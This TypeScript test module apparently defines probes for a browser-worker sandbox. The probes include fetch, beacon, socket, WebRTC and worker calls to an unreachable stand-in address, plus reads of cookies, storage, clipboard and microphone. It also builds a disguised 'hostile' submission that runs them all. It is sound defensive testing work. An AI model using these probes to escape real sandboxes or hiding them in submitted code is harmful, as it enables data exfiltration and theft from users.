/** One way by which code could try to get out of the sandbox, or at what the browser keeps. */
export interface Probe {
  readonly id: string;
  /**
   * Body of an async function in the worker. `out` is an address that nobody may reach, `app` that of the app.
   * It must throw, reject or give `undefined`; a value is something that was got hold of.
   */
  readonly body: string;
}

const network: readonly Probe[] = [
  { id: "fetch", body: "return (await fetch(out)).status" },
  { id: "fetch, no-cors", body: "return (await fetch(out, { mode: 'no-cors' })).type" },
  {
    id: "fetch, keepalive POST",
    body: "return (await fetch(out, { method: 'POST', keepalive: true, body: 'x', mode: 'no-cors' })).type",
  },
  {
    id: "fetch of the app",
    body: "return (await fetch(app, { mode: 'no-cors', credentials: 'include' })).type",
  },
  { id: "fetch of a data: address", body: "return (await fetch('data:text/plain,x')).status" },
  {
    id: "fetch of a blob: address",
    body: "return (await fetch(URL.createObjectURL(new Blob(['x'])))).status",
  },
  { id: "fetch of its own address", body: "return (await fetch(self.location.href)).status" },
  { id: "fetchLater", body: "return fetchLater(out).activated" },
  {
    id: "XMLHttpRequest",
    body: `const request = new XMLHttpRequest(); request.open("GET", out);
           return new Promise((resolve, reject) => { request.onload = () => resolve(request.status); request.onerror = reject; request.send(); })`,
  },
  {
    id: "XMLHttpRequest, synchronous",
    body: "const request = new XMLHttpRequest(); request.open('GET', out, false); request.send(); return request.status",
  },
  {
    id: "WebSocket",
    body: "const socket = new WebSocket(out.replace('http', 'ws')); return new Promise((resolve, reject) => { socket.onopen = () => resolve('open'); socket.onerror = reject; })",
  },
  {
    id: "WebSocketStream",
    body: "const stream = new WebSocketStream(out.replace('http', 'ws')); stream.closed.catch(() => {}); return (await stream.opened).protocol",
  },
  {
    id: "EventSource",
    body: "const source = new EventSource(out); return new Promise((resolve, reject) => { source.onopen = () => resolve('open'); source.onerror = reject; })",
  },
  {
    id: "WebTransport",
    body: "const transport = new WebTransport(out.replace('http:', 'https:')); transport.closed.catch(() => {}); await transport.ready; return 'ready'",
  },
  { id: "sendBeacon", body: "return navigator.sendBeacon(out, 'x') || undefined" },
  {
    id: "WebRTC",
    body: `const peer = new RTCPeerConnection({ iceServers: [{ urls: out.replace("http://", "stun:").replace(/\\/$/, "") }] });
           peer.createDataChannel("x"); await peer.setLocalDescription(); return peer.localDescription.type`,
  },
  {
    id: "TCPSocket",
    body: "const { hostname, port } = new URL(out); const socket = new TCPSocket(hostname, Number(port)); socket.closed.catch(() => {}); return (await socket.opened).remotePort",
  },
  { id: "importScripts", body: "importScripts(out); return 'loaded'" },
  { id: "importScripts of the app", body: "importScripts(app + 'page.js'); return 'loaded'" },
  { id: "import()", body: "return typeof await (0, eval)('(address) => import(address)')(out)" },
  {
    id: "import() of a data: address",
    body: "return typeof await (0, eval)('import(\"data:text/javascript,1\")')",
  },
  {
    id: "WebAssembly.compileStreaming",
    body: "return typeof await WebAssembly.compileStreaming(fetch(out))",
  },
  { id: "FontFace", body: "return (await new FontFace('x', `url(${out})`).load()).status" },
  {
    id: "Image",
    body: "const image = new Image(); image.src = out; await image.decode(); return image.width",
  },
  { id: "Worker from the network", body: "return answerOf(new Worker(out))" },
  { id: "Worker of the app", body: "return answerOf(new Worker(app + 'page.js'))" },
  {
    id: "Worker from a data: address",
    body: "return answerOf(new Worker('data:text/javascript,postMessage(1)'))",
  },
  { id: "SharedWorker", body: "return typeof new SharedWorker(out).port" },
  {
    id: "nested worker that fetches",
    body: 'return nested(\'fetch(out, { mode: "no-cors" }).then(() => postMessage("fetched"), fail)\')',
  },
  {
    id: "nested worker that imports scripts",
    body: "return nested('importScripts(out); postMessage(\"loaded\")')",
  },
  {
    id: "nested worker with a WebSocket",
    body: 'return nested(\'const s = new WebSocket(out.replace("http", "ws")); s.onopen = () => postMessage("open"); s.onerror = fail\')',
  },
  {
    id: "nested worker that reads IndexedDB",
    body: 'return nested(\'const r = indexedDB.open("course"); r.onsuccess = () => postMessage("open"); r.onerror = fail\')',
  },
  {
    id: "nested module worker that imports",
    body: "return answerOf(new Worker(URL.createObjectURL(new Blob([`import ${JSON.stringify(out)}; postMessage('loaded')`])), { type: 'module' }))",
  },
];

const storage: readonly Probe[] = [
  {
    id: "indexedDB.open",
    body: "const request = indexedDB.open('course'); return new Promise((resolve, reject) => { request.onsuccess = () => resolve('open'); request.onerror = () => reject(request.error); })",
  },
  // In a nested worker, because Chromium rejects a second promise here, which nobody can catch.
  {
    id: "indexedDB.databases",
    body: "return nested('indexedDB.databases().then((all) => postMessage(all.length), fail)')",
  },
  {
    id: "indexedDB.deleteDatabase",
    body: "const request = indexedDB.deleteDatabase('course'); return new Promise((resolve, reject) => { request.onsuccess = () => resolve('deleted'); request.onerror = () => reject(request.error); })",
  },
  { id: "localStorage", body: "return localStorage.length" },
  { id: "sessionStorage", body: "return sessionStorage.length" },
  { id: "document.cookie", body: "return document.cookie" },
  { id: "cookieStore", body: "return (await cookieStore.getAll()).length" },
  { id: "caches", body: "return (await caches.keys()).join() || undefined" },
  {
    id: "origin private file system",
    body: "const names = []; for await (const name of (await navigator.storage.getDirectory()).keys()) names.push(name); return names.join() || undefined",
  },
  { id: "storage persist", body: "return (await navigator.storage.persist()) || undefined" },
  { id: "requestFileSystem", body: "return typeof webkitRequestFileSystemSync(0, 1)" },
  { id: "locks", body: "return await navigator.locks.request('x', () => 'held')" },
  {
    id: "service worker",
    body: "return (await navigator.serviceWorker.getRegistrations()).length || undefined",
  },
];

const reach: readonly Probe[] = [
  { id: "window", body: "return typeof window.parent" },
  { id: "parent", body: "parent.postMessage('x', '*'); return 'posted'" },
  { id: "postMessage", body: "postMessage('x'); return 'posted'" },
  {
    id: "postMessage of the prototype",
    body: "DedicatedWorkerGlobalScope.prototype.postMessage.call(self, 'x'); return 'posted'",
  },
  { id: "open", body: "return typeof open(out)" },
  {
    id: "location",
    body: "self.location = out; await new Promise((resolve) => setTimeout(resolve, 20)); return self.location.href.startsWith('blob:') ? undefined : self.location.href",
  },
  {
    id: "notification",
    body: "const shown = new Notification('x'); return new Promise((resolve, reject) => { shown.onshow = () => resolve('shown'); shown.onerror = reject; })",
  },
  {
    id: "notification permission",
    body: "return (await Notification.requestPermission()) === 'granted' ? 'granted' : undefined",
  },
  { id: "microphone", body: "return (await navigator.mediaDevices.getUserMedia({ audio: true })).id" },
  { id: "clipboard", body: "return await navigator.clipboard.readText()" },
  { id: "USB", body: "return (await navigator.usb.getDevices()).length || undefined" },
  { id: "serial ports", body: "return (await navigator.serial.getPorts()).length || undefined" },
  { id: "the app's origin", body: "return self.origin === 'null' ? undefined : self.origin" },
];

/** Everything that must come to nothing. */
export const probes: readonly Probe[] = [...network, ...storage, ...reach];

/** Longest that a probe may go without an answer, in milliseconds: silence is a refusal too. */
const PATIENCE = 700;

/**
 * A submission for the hostile suite that tries probes, all of them unless told, at once, and then answers right. It
 * prints one line a probe: `<index> refused …`, `<index> silent` or `<index> GOT …`.
 */
export function probingSubmission(out: string, app: string, chosen: readonly Probe[] = probes): string {
  const tries = chosen.map(({ body }) => `async (out, app) => { ${body} }`).join(",\n");
  return `
const out: any = ${JSON.stringify(out)}, app: any = ${JSON.stringify(app)};
const answerOf = (worker: any) => new Promise((resolve, reject) => {
  worker.onmessage = ({ data }: any) => (String(data).startsWith("fail") ? reject(data) : resolve(data));
  worker.onerror = (event: any) => (event.preventDefault(), reject(event.message || "error event"));
});
const nested = (body: string) => answerOf(new Worker(URL.createObjectURL(new Blob([
  "const out = " + JSON.stringify(out) + "; const fail = (e) => postMessage('fail ' + e); try { " + body + " } catch (e) { fail(e) }",
]))));
const tries: any[] = [${tries}];
const silence = () => new Promise((resolve) => setTimeout(resolve, ${PATIENCE}, "silent"));
const one = async (attempt: any) => {
  try {
    const got = await Promise.race([attempt(out, app).then((value: any) => (value === undefined ? "refused quietly" : "GOT " + value)), silence()]);
    return String(got);
  } catch (error: any) { return "refused: " + (error?.message ?? error?.type ?? error); }
};
export const tally = (words: string[]): any => (words.length ? { a: 2, b: 1 } : {});
export const average = () => 3;
export async function later(value: any) {
  const lines = await Promise.all(tries.map(one));
  lines.forEach((line, index) => console.log(index + " " + line));
  return value;
}`;
}
